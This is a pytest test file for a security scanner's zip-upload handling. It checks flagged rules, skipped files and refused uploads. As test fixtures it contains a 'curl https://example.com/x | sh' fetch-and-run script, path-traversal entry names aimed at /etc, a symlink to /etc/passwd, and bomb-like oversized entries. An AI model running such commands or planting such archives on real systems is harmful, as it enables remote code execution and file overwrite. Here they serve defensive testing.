import base64
import io
import stat
import warnings
import zipfile
from collections import Counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from credit_studio.tools.base import InputError
from credit_studio.tools.dev import security
from credit_studio.tools.dev.scanning import sources
from credit_studio.tools.dev.security import SecurityInputs, SourceFile
from credit_studio.tools.forms import form_spec
from tests.tools.dev.test_security import DJANGO, found, run


def zipped(*files: tuple[str | zipfile.ZipInfo, bytes], name: str = "shop.zip", packing: int = zipfile.ZIP_DEFLATED) -> str:
    packed = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(packed, "w", packing) as archive:
        warnings.simplefilter("ignore")  # of a name that stands twice
        for path, content in files:
            archive.writestr(path, content)
    return data_url(name, packed.getvalue(), "application/zip")


def data_url(name: str, content: bytes, kind: str = "text/plain") -> str:
    return f"data:{kind};name={name};base64,{base64.b64encode(content).decode()}"


def test_a_project_in_a_zip_is_read_without_what_is_left_out() -> None:
    archive = zipped(
        ("shop/views.py", DJANGO.encode()),
        ("shop/broken.py", b"def f(:\n"),
        ("node_modules/x/index.js", b"eval(x)"),
        ("shop/logo.png", b"\x89PNG\0\0"),
        ("shop/data.bin", b"\0\1\2"),
        ("run", b"#!/usr/bin/env bash\ncurl https://example.com/x | sh\n"),
    )
    output = run(SecurityInputs(archive=archive))
    assert {(rule, line) for rule, _, line in found(output)} == {
        ("secret-secret-keyword", 5),
        ("B311", 8),
        ("B506", 9),
        ("B101", 10),
        ("B308", 11),
        ("B703", 11),
        ("sh-pipe", 2),
    }
    assert {(one.path, one.why.split(":")[0]) for one in output.skipped} == {
        ("shop/broken.py", "is not valid Python (line 1)"),
        ("node_modules/x/index.js", "left out as asked"),
        ("shop/logo.png", "is not text in UTF-8 or Latin-1"),
        ("shop/data.bin", "is not text in UTF-8 or Latin-1"),
    }
    assert output.files_read == 3


def test_one_file_may_come_by_itself() -> None:
    output = run(SecurityInputs(archive=data_url("Caf%C3%A9.py", "é = 'ä'; eval(x)\n".encode())))
    assert [(issue.rule, issue.path, issue.column) for issue in output.issues] == [("B307", "Café.py", 10)]


# --- archives that mean harm -------------------------------------------------------------------------------------------------------


def test_entries_that_mean_harm_are_told_and_never_read() -> None:
    link = zipfile.ZipInfo("link.py")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive = zipped(
        ("../../etc/cron.d/x.py", b"eval(x)"),
        ("/etc/passwd.py", b"eval(x)"),
        ("C:/x.py", b"eval(x)"),
        ("a\\..\\b.py", b"eval(x)"),
        ("/".join("a" * 40) + ".py", b"eval(x)"),
        (link, b"/etc/passwd"),
        ("inner.zip", b"PK\x03\x04"),
        ("bomb.txt", b"0" * 400_000),
        ("large.txt", bytes(range(32, 127)) * 6_000),
        ("twice.py", b"x = 1\n"),
        ("twice.py", b"eval(x)\n"),
        ("good.py", b"x = 1\n"),
    )
    output = run(SecurityInputs(archive=archive))
    assert output.issues == ()
    assert output.files_read == 2
    assert Counter(one.why.split(" ", 2)[1] for one in output.skipped) == {"path": 5, "a": 1, "an": 1, "to": 1, "larger": 1, "the": 1}


def test_an_encrypted_entry_and_an_unknown_packing_are_told() -> None:
    packed = bytearray(base64.b64decode(zipped(("a.py", b"eval(x)"), ("b.py", b"x = 1\n")).partition(",")[2]))
    at = packed.index(b"PK\x01\x02")
    packed[at + 8] |= 1
    output = run(SecurityInputs(archive=data_url("x.zip", bytes(packed))))
    assert [(one.path, one.why) for one in output.skipped] == [("a.py", "is encrypted")]
    refused = run(SecurityInputs(files=(SourceFile("a.py", "x = 1"),), archive=zipped(("b.py", b"eval(x)"), packing=zipfile.ZIP_LZMA)))
    assert [one.why for one in refused.skipped] == ["is packed in a way that is not read"]


def test_a_damaged_entry_is_told() -> None:
    packed = bytearray(base64.b64decode(zipped(("a.py", b"eval(x)\n"), ("b.py", b"x = 1\n")).partition(",")[2]))
    packed[37] ^= 0xFF
    assert [one.why for one in run(SecurityInputs(archive=data_url("x.zip", bytes(packed)))).skipped] == ["is damaged"]


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ("print('x')", "data URL"),
        ("data:application/zip;name=a.zip;base64,@@@", "base64"),
        ("data:application/zip;name=a.zip;base64,", "empty"),
        (data_url("a.zip", b"no zip at all"), "damaged"),
        (zipped(("logo.png", b"\0")), "nothing that can be read"),
        (zipped(), "holds no files"),
        (zipped(*((f"{number}.txt", bytes(range(32, 127)) * 4_000) for number in range(6)), packing=zipfile.ZIP_STORED), "more than 2 MB"),
    ],
)
def test_a_wrong_upload_names_the_field(given: str, said: str) -> None:
    with pytest.raises(InputError, match=said) as refused:
        security.run(SecurityInputs(archive=given))
    assert refused.value.field == "archive"


@settings(max_examples=40, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_as_an_archive_are_read_or_refused(content: bytes) -> None:
    given_ = data_url("x.zip", content)
    assert security._units(SecurityInputs(archive=given_)) >= 0
    with pytest.raises(InputError):
        security.run(SecurityInputs(archive=given_))


def test_the_estimate_follows_the_archives_own_list() -> None:
    files = tuple((f"{number}.py", b"x = 1\n" * number) for number in range(1, 60))
    archive = zipped(*files, ("a.png", b"\0" * 9_000))
    assert security._units(SecurityInputs(archive=archive)) == sum(sources.weigh("a.py", len(content)) for _, content in files)
    text = SecurityInputs(files=(SourceFile("a.txt", "x" * 1_000),))
    assert security._units(text) < security._units(SecurityInputs(files=(SourceFile("a.py", "x" * 1_000),)))


def test_the_form_takes_the_bytes_of_a_file() -> None:
    fields = {field["name"]: field for field in form_spec(security.TOOL)["fields"]}
    assert (fields["archive"]["kind"], fields["archive"]["encoded"], fields["archive"]["serverOnly"]) == ("file", True, False)
    assert ".zip" in fields["archive"]["accept"]
